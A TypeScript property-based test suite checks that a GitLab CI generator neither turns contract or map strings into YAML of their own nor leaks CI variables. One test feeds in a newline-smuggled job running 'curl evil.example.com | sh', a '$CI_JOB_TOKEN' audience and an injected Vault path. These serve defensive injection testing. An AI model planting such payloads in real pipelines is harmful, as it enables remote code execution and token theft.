/**
 * Generated CI cannot be fooled: nothing of a map or a contract becomes YAML of its own. Every
 * string field of the contract is listed in contractStringRules() (checked against the contract's
 * schema), and properties put arbitrary strings (line breaks of every kind, "#", ":", "- ", "{",
 * quotes, "$", "*", "&", "!", NUL, very long) into each field of a contract and of a map: the
 * field is refused with its rule's exact problem, or the generated file holds exactly the
 * expected jobs, every comment stays one comment line saying what it was given, and every value
 * equals the value intended. GitLab reads the files with libyaml (YAML 1.1), which also breaks
 * lines at U+0085, U+2028 and U+2029 and refuses control characters: the files hold neither, so
 * js-yaml (YAML 1.2) reads their lines as libyaml does.
 */
import { strict as assert } from "node:assert";
import fc from "fast-check";
import { CORE_SCHEMA, load, loadAll } from "js-yaml";
import { z } from "zod";
import type { Contract, GrantContract } from "../../src/contract/contract";
import { checkMap, planMap } from "../../src/features";
import { CiFile, LITERAL, buildJob, generateCi, templateName } from "../../src/features/ci";
import { comment, contractStringRules, contractStrings } from "../../src/features/ci-output";
import { ContractSchema, contractOf } from "../../src/features/contract";
import { PipelineError, generatePipeline } from "../../src/features/pipeline";
import { cli, directoryWith } from "../helpers/cli";
import { clone, devMap } from "../helpers/maps";
import { akeylessMap } from "../components/akeyless/fixture";

type Json = Record<string, any>;
/**
 * The dev map with an Azure grant too (the committed dev stack has no Azure section), so that
 * every target's contract fields are fuzzed: Azure needs exact planner refs and its own deployer
 * settings (the deployer's client IDs among them), and a grant's contract has its identity's client
 * ID only once deployed (set here as a deployed stack's).
 */
function withAzure(raw: Json): Json {
    const map = clone(raw);
    map.azure = {
        tenantId: "72f988bf-86f1-41af-91ab-2d7cd011db47",
        subscriptionId: "0b1f6471-1bf0-4dda-aec3-cb9272f09590",
        resourceGroup: { name: "gitlab-ci-identities", location: "westeurope" },
        deployerResourceGroup: { name: "gitlab-federation-deployer", location: "westeurope" },
    };
    map.deployer.planner = { ref: ["main"] };
    map.deployer.azure = {
        acknowledge: "main is protected and every job on it is reviewed",
        clientIds: { planner: "8b9c0d1e-2f3a-4b5c-8d6e-7f8091a2b3c4", applier: "1a2b3c4d-5e6f-4a7b-8c9d-0e1f2a3b4c5d" },
    };
    map.projects["platform/infra"] = { id: 44, grants: { deploy: { ref: "main", azure: { roles: [{ role: "AcrPush", scope: { resourceGroup: "app" } }] } } } };
    return map;
}
const DEV = withAzure(devMap());
/**
 * The contract of the dev map with Azure (above) and Akeyless added as deployed (the dev map has no Akeyless section; its
 * access id is known once the auth method exists), so every target's strings are exercised.
 */
function withAkeyless(): Contract {
    const contract = contractOf(planMap(withAzure(akeylessMap()))) as Json;
    contract.grants["platform/infra"].deploy.azure.clientId = "2c7d6d9e-5b1a-4f3e-9c8d-7a6b5c4d3e2f";
    contract.akeyless.accessId = "p-abc123";
    for (const grants of Object.values(contract.grants as Json)) {
        for (const part of Object.values(grants as Json)) {
            if ((part as Json).akeyless !== undefined) (part as Json).akeyless.accessId ??= "p-abc123";
        }
    }
    return contract as Contract;
}
const BASE = withAkeyless();
const SOURCE = "c.json";

/** Strings YAML 1.1 (libyaml) reads as something else than text in a comment or a value: line breaks of every kind, indicators, controls. */
const SPECIALS = [
    "\n", "\r", "\r\n", "\u0085", "\u2028", "\u2029", "\u0000", "\u0007", "\u001b", "\u007f", "\u009b", "\ufeff", "\ud800", "\t", "\\",
    "#", " #", ": ", ":", "- ", "-", "? ", "{", "}", "[", "]", ",", "'", '"', "|", ">", "%", "@", "`", "*", "*a", "&a", "!", "!!int", "---", "...",
    "$", "$CI_JOB_TOKEN", "${CI_JOB_TOKEN}", "$[[ inputs.vault_audience ]]", " ",
];

/** An arbitrary string, or `base` with specials put in, or a very long one. */
function nasty(base: string): fc.Arbitrary<string> {
    return fc.oneof(
        fc.string({ unit: "binary", maxLength: 30 }),
        fc.array(fc.constantFrom(...SPECIALS), { minLength: 1, maxLength: 5 }).map((parts) => parts.join("")),
        fc.tuple(fc.nat(), fc.array(fc.constantFrom(...SPECIALS), { minLength: 1, maxLength: 3 })).map(([at, parts]) => `${base.slice(0, at % (base.length + 1))}${parts.join("")}${base.slice(at % (base.length + 1))}`),
        fc.tuple(fc.constantFrom(...SPECIALS), fc.integer({ min: 1000, max: 4000 })).map(([part, times]) => `${base}${part.repeat(times)}`),
    );
}

/** Whether a code point is printable YAML (YAML 1.2 §5.1; libyaml reader.c), without line breaks or tabs. */
function printable(cp: number): boolean {
    return (cp >= 0x20 && cp <= 0x7e) || (cp >= 0xa0 && cp <= 0xd7ff) || (cp >= 0xe000 && cp <= 0xfffd && cp !== 0xfeff) || cp >= 0x10000;
}

/** The file holds no line break but "\n" and nothing unprintable: libyaml splits it into the lines js-yaml sees. */
function assertPlainLines(text: string): void {
    for (const ch of text) {
        const cp = ch.codePointAt(0)!;
        assert.ok(cp === 0x0a || printable(cp), `U+${cp.toString(16).toUpperCase().padStart(4, "0")} in the generated file`);
    }
}

/** A comment line's text, its escapes read back (\\, \n, \r, \t, \uXXXX). */
function decodeComment(line: string): string {
    assert.match(line, /^ *# /);
    return line.replace(/^ *# /, "").replace(/\\(\\|n|r|t|u[0-9A-F]{4})/g, (_, e: string) => ({ "\\": "\\", n: "\n", r: "\r", t: "\t" })[e] ?? String.fromCharCode(parseInt(e.slice(1), 16)));
}

/** The place of a contract field as problems name it (an implementation apart from the one under test). */
function placeOf(segments: readonly (string | number)[]): string {
    return segments
        .map((s, i) => (typeof s === "number" ? `[${s}]` : /^[A-Za-z_][A-Za-z0-9_]*$/.test(s) ? (i === 0 ? s : `.${s}`) : `[${JSON.stringify(s)}]`))
        .join("");
}

/** The values a grant's job must carry, from the contract: ID token audiences, variables, environment. */
function intended(contract: Contract, grant: GrantContract): Json {
    const tokens: Json = {};
    const variables: Json = {};
    if (grant.vault !== undefined) {
        tokens.VAULT_ID_TOKEN = { aud: grant.vault.audience };
        Object.assign(variables, { VAULT_SERVER_URL: grant.vault.serverUrl ?? contract.vault!.serverUrl, VAULT_AUTH_PATH: grant.vault.authPath, VAULT_AUTH_ROLE: grant.vault.roleName });
    }
    if (grant.aws !== undefined) {
        tokens.AWS_ID_TOKEN = { aud: grant.aws.audience };
        Object.assign(variables, { AWS_ROLE_ARN: grant.aws.roleArn, AWS_ROLE_SESSION_NAME: "gitlab-$CI_PROJECT_ID-$CI_JOB_ID" });
    }
    if (grant.gcp !== undefined) {
        tokens.GCP_ID_TOKEN = { aud: grant.gcp.audience };
        Object.assign(variables, { GCP_WORKLOAD_IDENTITY_PROVIDER: grant.gcp.providerResourceName, GCP_SERVICE_ACCOUNT: grant.gcp.serviceAccountEmail });
    }
    if (grant.akeyless !== undefined) {
        tokens.AKEYLESS_ID_TOKEN = { aud: grant.akeyless.audience };
        Object.assign(variables, { AKEYLESS_API_URL: grant.akeyless.apiUrl, AKEYLESS_ACCESS_ID: grant.akeyless.accessId });
    }
    if (grant.azure !== undefined) {
        tokens.AZURE_ID_TOKEN = { aud: grant.azure.audience };
        Object.assign(variables, { AZURE_CLIENT_ID: grant.azure.clientId, AZURE_TENANT_ID: grant.azure.tenantId, AZURE_SUBSCRIPTION_ID: grant.azure.subscriptionId });
    }
    // A pattern environment (review/*) names the job's environment with each "*" as the ref's slug, which GitLab expands.
    const environment = grant.conditions.environment?.replaceAll("*", "$CI_COMMIT_REF_SLUG");
    return { id_tokens: tokens, variables, ...(environment !== undefined ? { environment: { name: environment } } : {}) };
}

/** The CI/CD variables this program's own rules test; no other "$" may reach a rule. */
const RULE_VARIABLES = new Set(["CI_PROJECT_ID", "CI_MERGE_REQUEST_SOURCE_PROJECT_ID", "CI_COMMIT_REF_NAME", "CI_COMMIT_TAG", "CI_COMMIT_REF_PROTECTED", "CI_PIPELINE_SOURCE", "CI_COMMIT_BRANCH", "CI_DEFAULT_BRANCH"]);

/** A job holds exactly the intended values, and "$" only in this program's own literals. */
function assertJob(job: Json, contract: Contract, grant: GrantContract): void {
    const want = intended(contract, grant);
    assert.deepEqual(job.id_tokens, want.id_tokens);
    assert.deepEqual(job.variables, want.variables);
    assert.deepEqual(job.environment, want.environment);
    const built = buildJob(contract, grant, LITERAL, "");
    assert.ok("job" in built, JSON.stringify(built));
    assert.deepEqual(job, built.job);
    for (const rule of job.rules as { if: string }[]) {
        for (const [, name] of rule.if.matchAll(/\$([A-Za-z_][A-Za-z0-9_]*)/g)) {
            assert.ok(RULE_VARIABLES.has(name!), `rule ${rule.if} names $${name}`);
        }
    }
}

/** The files of a project's CI: exactly its grants' hidden jobs, comments that say what they were given, the intended values. */
function assertFiles(files: readonly CiFile[], contract: Contract, project: string, format: "yaml" | "component"): void {
    const grants = contract.grants[project]!;
    const names = Object.keys(grants).sort();
    assert.equal(files.length, format === "yaml" ? 1 : names.length);
    files.forEach((file, i) => {
        assertPlainLines(file.text);
        const documents = loadAll(file.text, { schema: CORE_SCHEMA }) as Json[];
        const shown = format === "yaml" ? names : [names[i]!];
        let jobs = documents[documents.length - 1]!;
        if (format === "component") {
            assert.equal(documents.length, 2);
            assert.deepEqual(Object.keys(documents[0]!), ["spec"]);
            assert.deepEqual(Object.keys(documents[0]!.spec), ["inputs"]);
            const defaults = Object.fromEntries(Object.entries(documents[0]!.spec.inputs as Json).map(([k, v]) => [k, (v as Json).default as string]));
            jobs = JSON.parse(JSON.stringify(jobs).replace(/\$\[\[ inputs\.([a-z_]+) \]\]/g, (_, name: string) => JSON.stringify(defaults[name]).slice(1, -1)));
        } else {
            assert.equal(documents.length, 1);
        }
        assert.deepEqual(Object.keys(jobs), shown.map(templateName));
        const lines = file.text.split("\n");
        for (const name of shown) {
            assertJob(jobs[templateName(name)], contract, grants[name]!);
            const description = grants[name]!.description;
            const header = lines.filter((l) => l.startsWith(`# ${project} ${name}`)).map(decodeComment);
            assert.deepEqual(header, [`${project} ${name}${description !== undefined ? `: ${description}` : ""}`]);
        }
    });
}

interface Field {
    readonly key: string;
    readonly segments: readonly (string | number)[];
    readonly value: string;
}

/** Every string of the dev map's contract, keys of grants included. */
const FIELDS: Field[] = [];
contractStrings(BASE, (key, segments, value) => FIELDS.push({ key, segments: [...segments], value }));

/** The contract with one field (or key) set to `text`. */
function withField(field: Field, text: string): Contract {
    const contract = clone(BASE) as Json;
    const parent = field.segments.slice(0, -1).reduce((node: Json, s) => node[s], contract);
    const last = field.segments[field.segments.length - 1]!;
    if (field.key.endsWith("{}")) {
        const entries = Object.entries(parent).map(([k, v]) => [k === last ? text : k, v] as const);
        for (const k of Object.keys(parent)) delete parent[k];
        for (const [k, v] of entries) parent[k] = v;
    } else {
        parent[last] = text;
    }
    return contract as Contract;
}

describe("generated CI cannot be fooled", () => {
    it("contractStringRules() lists every string field of the contract's schema, and nothing else", () => {
        const found: string[] = [];
        const walk = (schema: Json, path: string): void => {
            for (const alternative of [...(schema.anyOf ?? []), ...(schema.oneOf ?? [])]) walk(alternative, path);
            if (schema.type === "string") found.push(path);
            for (const [name, child] of Object.entries((schema.properties ?? {}) as Json)) walk(child as Json, path === "" ? name : `${path}.${name}`);
            if (typeof schema.additionalProperties === "object") {
                found.push(`${path}{}`);
                walk(schema.additionalProperties as Json, `${path}.*`);
            }
            if (schema.items !== undefined) walk(schema.items as Json, `${path}[]`);
        };
        walk(z.toJSONSchema(ContractSchema(), { target: "draft-2020-12" }) as Json, "");
        assert.deepEqual(found.sort(), Object.keys(contractStringRules()).sort());
        // Each is checked by a rule, but the description, which is only ever a comment.
        assert.deepEqual(Object.entries(contractStringRules()).filter(([, how]) => !("rule" in how)).map(([key]) => key), ["grants.*.*.description"]);
        // The dev map's contract passes every rule, and has a value for most of the fields (the others are optional).
        // The dev map has no Vault namespace, no Vault write, other KV mount or engine, no AWS accounts (nor the deployer's roles in them) and no GCP bindings (its plan is pinned), so it has no such fields.
        const vaultBeyondReads = ["write[]", "kv[].mount", "kv[].read[]", "kv[].write[]", "endpoints[].engine", "endpoints[].path", "endpoints[].capability"].map((f) => `grants.*.*.vault.${f}`);
        const awsAccounts = ["grants.*.*.aws.account", "grants.*.*.aws.accountRoles[].account", "grants.*.*.aws.accountRoles[].roleArn"];
        const absent = ["vault.accessor", "vault.namespace", "grants.*.*.vault.namespace", ...awsAccounts, "grants.*.*.gcp.access", "grants.*.*.gcp.bindings[]", ...vaultBeyondReads];
        assert.deepEqual([...new Set(FIELDS.map((f) => f.key))].sort(), Object.keys(contractStringRules()).filter((k) => !absent.includes(k)).sort());
    });

    it("comment: any text is one comment line that reads back as the text", () => {
        fc.assert(
            fc.property(fc.oneof(fc.string({ unit: "binary" }), nasty("x")), fc.constantFrom("", "  "), (text, indent) => {
                const line = comment(text, indent);
                assert.ok(line.startsWith(`${indent}# `));
                assertPlainLines(line);
                assert.equal(decodeComment(line), text);
                assert.deepEqual(load(`${line}\nk: 1\n${line}\n`, { schema: CORE_SCHEMA }), { k: 1 });
            }),
            { numRuns: 300 },
        );
    });

    it("property: an arbitrary string in any field of a contract is refused by the field's rule, or comes out as exactly that value or comment (a pattern environment with each * as the ref slug)", () => {
        fc.assert(
            fc.property(
                fc.constantFrom(...FIELDS).chain((field) => fc.tuple(fc.constant(field), nasty(field.value), fc.constantFrom("yaml" as const, "component" as const))),
                ([field, text, format]) => {
                    const siblings = field.key.endsWith("{}") ? Object.keys(field.segments.slice(0, -1).reduce((n: Json, s) => n[s], BASE as Json)) : [];
                    fc.pre(!siblings.includes(text));
                    const contract = withField(field, text);
                    const how = contractStringRules()[field.key]!;
                    const project = field.segments[0] !== "grants" ? "platform/api" : field.key === "grants{}" ? text : String(field.segments[1]);
                    const result = generateCi(contract, { project, format, source: SOURCE });
                    const problem = "rule" in how ? how.rule(text) : undefined;
                    if (problem !== undefined) {
                        // A key is named as written: the place of the new key.
                        const segments = field.key.endsWith("{}") ? [...field.segments.slice(0, -1), text] : field.segments;
                        assert.deepEqual(result, { problems: [`${SOURCE}: ${placeOf(segments)}${field.key.endsWith("{}") ? " (a key)" : ""}: ${problem}`] });
                        return;
                    }
                    assert.ok("files" in result, JSON.stringify(result));
                    assertFiles(result.files, contract, project, format);
                },
            ),
            { numRuns: 400 },
        );
    });

    it("boundary pairs: a value with YAML's special characters that its rule allows comes out as exactly that value", () => {
        const audience = FIELDS.find((f) => f.key === "grants.*.*.vault.audience" && f.segments[1] === "platform/api" && f.segments[2] === "deploy")!;
        // Audiences hold no spaces, so no ": " or " #"; everything else YAML reads specially is allowed.
        for (const text of ["https://vault.example.com/#x:{y}", "'a'&b*c!d|e>f%g@h`i", '"quoted"', "-x", "[a]", "{a}", "*a", "&a", "!!int", "?x", "|", ">", "%x", "@x", "---", "...", "\\"]) {
            for (const format of ["yaml", "component"] as const) {
                const contract = withField(audience, text);
                const result = generateCi(contract, { project: "platform/api", format, source: SOURCE });
                assert.ok("files" in result, JSON.stringify(result));
                assertFiles(result.files, contract, "platform/api", format);
            }
        }
        assert.deepEqual(generateCi(withField(audience, "https://vault.example.com/$CI_JOB_TOKEN"), { project: "platform/api", format: "yaml", source: SOURCE }), {
            problems: [
                'c.json: grants["platform/api"].deploy.vault.audience: must not contain "$" (got "https://vault.example.com/$CI_JOB_TOKEN"): GitLab expands CI/CD variables in id_tokens aud and in variables:, where jobs get this value, so a variable such as $CI_JOB_TOKEN would be sent to the target; write the value literally',
            ],
        });
    });

    it("property: a map's descriptions, whatever they hold, stay comments of the generated CI", () => {
        fc.assert(
            fc.property(nasty("Deploy the API"), fc.constantFrom("deploy", "release", "review"), fc.constantFrom("yaml" as const, "component" as const), (text, grant, format) => {
                const raw = clone(DEV);
                raw.projects["platform/api"].description = text;
                raw.projects["platform/api"].grants[grant].description = text;
                const checked = checkMap(raw);
                if (checked.plan === undefined) {
                    // Only IAM refuses some: a role's description takes printable Latin-1 only (the release and deploy grants use AWS).
                    assert.deepEqual([...new Set(checked.problems.map((p) => p.path))], [`gitlab-federation:projects["platform/api"].grants.${grant}.description`]);
                    assert.notEqual(grant, "review");
                    return;
                }
                const contract = contractOf(checked.plan);
                assert.equal(contract.grants["platform/api"]![grant]!.description, text);
                const result = generateCi(contract, { project: "platform/api", format, source: "Pulumi.dev.yaml" });
                assert.ok("files" in result, JSON.stringify(result));
                assertFiles(result.files, contract, "platform/api", format);
            }),
            { numRuns: 60 },
        );
    });

    it("a contract's values are checked by the map's rules, with messages that say what was expected", () => {
        const at = (key: string, project = "platform/api", grant = "deploy") => FIELDS.find((f) => f.key === key && (f.segments[0] !== "grants" || (f.segments[1] === project && f.segments[2] === grant)))!;
        const cases: [Field, string, string][] = [
            [at("grants.*.*.projectId"), "042", 'grants["platform/api"].deploy.projectId: must be the numeric GitLab project ID (Settings > General), e.g. 42, got "042"'],
            [at("grants.*.*.conditions.environment"), "prod $X", 'grants["platform/api"].deploy.conditions.environment: must be a GitLab environment name of letters, digits, ".", "_", "-" and "/", or a pattern where "*" matches any characters (got "prod $X"), e.g. "production" or "review/*"'],
            [at("grants.*.*.vault.roleName"), "Deploy", 'grants["platform/api"].deploy.vault.roleName: must be 1-128 lowercase letters, digits, "_", "-" and ".", starting and ending with a letter or digit, got "Deploy"'],
            [at("grants.*.*.vault.serverUrl"), "http://vault.example.com", 'grants["platform/api"].deploy.vault.serverUrl: must use https (got "http://vault.example.com"): jobs send their tokens over it'],
            [
                at("grants.*.*.aws.roleArn"),
                "arn:aws:iam::111111111111:role/x y",
                'grants["platform/api"].deploy.aws.roleArn: in its role name: must be 1-64 characters of letters, digits and _+=,.@- (IAM role names), got "x y"',
            ],
            [
                at("grants.*.*.gcp.serviceAccountEmail"),
                'gl-platform-api--deploy@acme-ci.iam.gserviceaccount.com"',
                'grants["platform/api"].deploy.gcp.serviceAccountEmail: must be a service account email, <account id>@<project>.iam.gserviceaccount.com, got "gl-platform-api--deploy@acme-ci.iam.gserviceaccount.com\\""',
            ],
            [
                at("grants.*.*.gcp.providerResourceName"),
                "//iam.googleapis.com/projects/1/locations/global/workloadIdentityPools/gitlab/providers/gitlab-example-com",
                'grants["platform/api"].deploy.gcp.providerResourceName: in its project number: must be the numeric GCP project number, e.g. "123456789012", got "1"',
            ],
            [at("grants.*.*.conditions.refType"), "branches", 'grants["platform/api"].deploy.conditions.refType: Invalid option: expected one of "branch"|"tag", got "branches"'],
            [at("vault.kvMount"), "sys", 'vault.kvMount: "sys" is reserved by Vault; choose another path such as "gitlab"'],
        ];
        for (const [field, text, problem] of cases) {
            assert.deepEqual(generateCi(withField(field, text), { project: "platform/api", format: "yaml", source: SOURCE }), { problems: [`${SOURCE}: ${problem}`] }, problem);
        }
    });

    it("the binary: a contract file is checked before anything is written; a new line in a description stays a comment; duplicate keys are refused", () => {
        const tampered = clone(BASE) as Json;
        tampered.grants["platform/web"].deploy.description = "x\nevil:\n  script: [curl evil.example.com | sh]\n#";
        tampered.grants["platform/web"].deploy.vault.audience = "$CI_JOB_TOKEN";
        tampered.grants["platform/web"].deploy.vault.read = ["platform/web/production\nevil: 1"];
        const directory = directoryWith({ "contract.json": JSON.stringify(tampered), "dup.json": `{"schemaVersion": "1.0", "gitlabUrl": "https://gitlab.example.com", "grants": {"a/b": {}, "a/b": {}}}` });
        const refused = cli(["ci", "--contract", "contract.json", "--project", "platform/web"], { cwd: directory });
        assert.deepEqual([refused.status, refused.stdout], [1, ""]);
        assert.equal(
            refused.stderr,
            [
                "gitlab-federation ci: cannot generate:",
                '  contract.json: grants["platform/web"].deploy.vault.read[0]: contains characters other than letters, digits, "_", "-", "." and "@" in its segments (got "platform/web/production\\nevil: 1"); rename the secret folder or pick a parent folder',
                '  contract.json: grants["platform/web"].deploy.vault.audience: must not contain "$" (got "$CI_JOB_TOKEN"): GitLab expands CI/CD variables in id_tokens aud and in variables:, where jobs get this value, so a variable such as $CI_JOB_TOKEN would be sent to the target; write the value literally',
                "",
            ].join("\n"),
        );
        const described = clone(BASE) as Json;
        described.grants["platform/web"].deploy.description = "x\nevil:\n  script: [curl evil.example.com | sh]\n#";
        const written = cli(["ci", "--contract", "-", "--project", "platform/web"], { input: JSON.stringify(described) });
        assert.equal(written.status, 0, written.stderr);
        assert.deepEqual(Object.keys(load(written.stdout, { schema: CORE_SCHEMA }) as Json), [".gitlab-federation:deploy"]);
        assert.ok(written.stdout.includes("\n# platform/web deploy: x\\nevil:\\n  script: [curl evil.example.com | sh]\\n#\n"), written.stdout);
        const duplicate = cli(["ci", "--contract", "dup.json", "--project", "a/b"], { cwd: directory });
        assert.deepEqual([duplicate.status, duplicate.stderr], [1, 'dup.json: duplicate key "a/b" in JSON text: an object holds each key once, and JSON readers differ on which of the two they keep; merge the two entries (in grants)\n']);
    });

    /** The map's values that reach the pipeline's jobs (through the deployer's contract, or as they are). */
    const PIPELINE_FIELDS: [readonly string[], string][] = [
        [["gitlab", "url"], "https://gitlab.example.com"],
        [["vault", "audience"], "https://vault.example.com"],
        [["vault", "serverUrl"], "https://vault.example.com"],
        [["vault", "authPath"], "gitlab"],
        [["vault", "kvMount"], "secret"],
        [["aws", "audience"], "sts.amazonaws.com"],
        [["aws", "accountId"], "111111111111"],
        [["aws", "rolePath"], "/gitlab-federation/"],
        [["gcp", "audience"], "https://iam.googleapis.com/x"],
        [["gcp", "project"], "acme-ci"],
        [["gcp", "projectNumber"], "123456789012"],
        [["gcp", "poolId"], "gitlab"],
        [["gcp", "providerId"], "gitlab-example-com"],
        [["deployer", "project"], "platform/gitlab-federation"],
        [["deployer", "id"], "7"],
        [["deployer", "applier", "environment"], "federation-dev"],
        [["deployer", "applier", "ref"], "main"],
        [["deployer", "planner", "ref"], "*"],
    ];

    it("property: an arbitrary string in any map field the pipeline uses is refused by the map, or comes out as exactly that value", () => {
        const jobs = ["workflow", "stages", "variables", "default", "check", "review:dev", "verify:dev", "preview:dev", "up:dev"];
        fc.assert(
            fc.property(
                fc.constantFrom(...PIPELINE_FIELDS).chain(([path, base]) => fc.tuple(fc.constant(path), nasty(base))),
                ([path, text]) => {
                    const raw = clone(DEV);
                    const parent = path.slice(0, -1).reduce((node: Json, s) => (node[s] ??= {}), raw);
                    parent[path[path.length - 1]!] = text;
                    const result = checkMap(raw);
                    if (result.plan === undefined) {
                        assert.ok(result.problems.length > 0);
                        return;
                    }
                    let generated: string;
                    try {
                        generated = generatePipeline([{ name: "dev", file: "Pulumi.dev.yaml", plan: result.plan }]);
                    } catch (error) {
                        // A value the jobs need that the map lacks (Vault's address when the audience is no URL): refused too.
                        assert.ok(error instanceof PipelineError, String(error));
                        assert.deepEqual(error.problems, [
                            `Pulumi.dev.yaml: platform/gitlab-federation planner: jobs need Vault's address (VAULT_SERVER_URL) and the map has none: vault.audience ${JSON.stringify(text)} is not an https URL, so set gitlab-federation:vault.serverUrl`,
                        ]);
                        return;
                    }
                    assertPlainLines(generated);
                    const pipeline = load(generated, { schema: CORE_SCHEMA }) as Json;
                    assert.deepEqual(Object.keys(pipeline), jobs);
                    const contract = contractOf(result.plan);
                    const deployer = contract.grants[result.plan.deployer!.project]!;
                    for (const [job, identity] of [["preview:dev", "planner"], ["up:dev", "applier"]] as const) {
                        const want = intended(contract, deployer[identity]!);
                        assert.deepEqual(pipeline[job].id_tokens, { ...want.id_tokens, PULUMI_ID_TOKEN: { aud: "urn:pulumi:org:$PULUMI_ORG" } });
                        assert.deepEqual(pipeline[job].variables, {
                            ...want.variables,
                            PULUMI_OIDC_TEAM: identity === "applier" ? "$PULUMI_OIDC_TEAM_APPLIER" : "$PULUMI_OIDC_TEAM_PLANNER",
                            // up is gated against the commit last applied: the whole history.
                            ...(identity === "applier" ? { GIT_DEPTH: "0" } : {}),
                            // The deployer's state backend, from deployer.state.
                            ...(result.plan.deployer?.backendUrl !== undefined ? { PULUMI_BACKEND_URL: result.plan.deployer.backendUrl } : {}),
                        });
                        assert.deepEqual(pipeline[job].environment, want.environment);
                    }
                },
            ),
            { numRuns: 150 },
        );
    });
});
